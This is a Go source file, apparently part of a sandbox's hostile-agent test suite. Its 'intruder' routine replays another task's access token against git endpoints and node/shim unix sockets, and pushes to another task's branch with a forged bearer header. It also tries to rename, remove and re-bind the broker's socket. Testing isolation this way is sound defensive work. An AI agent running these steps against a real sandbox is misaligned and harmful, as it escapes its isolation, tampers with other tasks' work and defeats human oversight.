package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"sam/sandbox/hostile/orders"
)

// replayGrant uses another task's grant, which its own agent gave away, from this workspace: its token at the broker that is
// here, beside this task's and without it, over every socket that may be another's; and it tries to take the broker's socket
// from where it is.
func (i *intruder) replayGrant() orders.Report {
	origin, err := do("git", "remote", "get-url", "origin")
	if err != nil {
		return unable("%s: %v", origin, err)
	}
	base, own := origin[:strings.LastIndexByte(origin, '/')+1], origin[strings.LastIndexByte(origin, '/')+1:]
	var all []string
	for _, service := range []string{"git-upload-pack", "git-receive-pack"} {
		for _, task := range []string{i.Other, own} {
			path := task + "/info/refs?service=" + service
			all = append(all, i.show(http.DefaultTransport, base+path, i.Token, ""), i.show(http.DefaultTransport, base+path, i.Token, i.Token))
			if task == i.Other { // its own is its own to fetch
				all = append(all, i.show(http.DefaultTransport, base+path, i.token(), i.Token))
			}
		}
	}
	sockets, _ := filepath.Glob(i.Targets["node"] + "/run/*/node/node.sock")
	for _, socket := range append(sockets, "/run/sam/node/node.sock", "/run/sam/shim/shim.sock") {
		over := &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{Timeout: 3 * time.Second}).DialContext(ctx, "unix", socket)
		}}
		all = append(all, i.show(over, "http://node/git/"+i.Other+"/info/refs?service=git-receive-pack", i.Token, i.Token))
		over.CloseIdleConnections()
	}
	header := "http." + strings.TrimSuffix(base, "git/") + ".extraHeader=" // an empty one takes back the task's own
	said, err := do("git", "-c", header, "-c", header+"Authorization: Bearer "+i.Token, "push", base+i.Other, "HEAD:refs/heads/"+i.Branch)
	if !ended(err) {
		return unable("%s: %v", said, err)
	}
	all = append(all, "push: "+said[strings.LastIndexByte(said, '\n')+1:])
	const socket = "/run/sam/node/node.sock"
	all = append(all, fmt.Sprint("take: ", os.Rename(socket, "/workspace/taken.sock"), os.Link(socket, "/workspace/taken.sock"), os.Remove(socket)))
	if l, err := net.Listen("unix", socket); err == nil { //nolint:noctx // it is closed at once
		all = append(all, "TAKEN")
		_ = l.Close()
	}
	return tried("%s", strings.Join(all, "; "))
}

// show asks with a token as the password, and another in the header that the node has for it.
func (i *intruder) show(over http.RoundTripper, address, password, header string) string {
	request, err := http.NewRequest(http.MethodGet, address, nil) //nolint:noctx // the client has a time limit
	if err != nil {
		return err.Error()
	}
	request.SetBasicAuth("sam", password)
	if header != "" {
		request.Header.Set("Sam-Task-Token", header)
	}
	response, err := (&http.Client{Timeout: 5 * time.Second, Transport: over}).Do(request)
	if err != nil {
		return "no answer"
	}
	defer response.Body.Close()
	_, _ = io.Copy(io.Discard, io.LimitReader(response.Body, 1<<20))
	if response.StatusCode < 300 {
		return "GRANTED"
	}
	return fmt.Sprint(response.StatusCode)
}
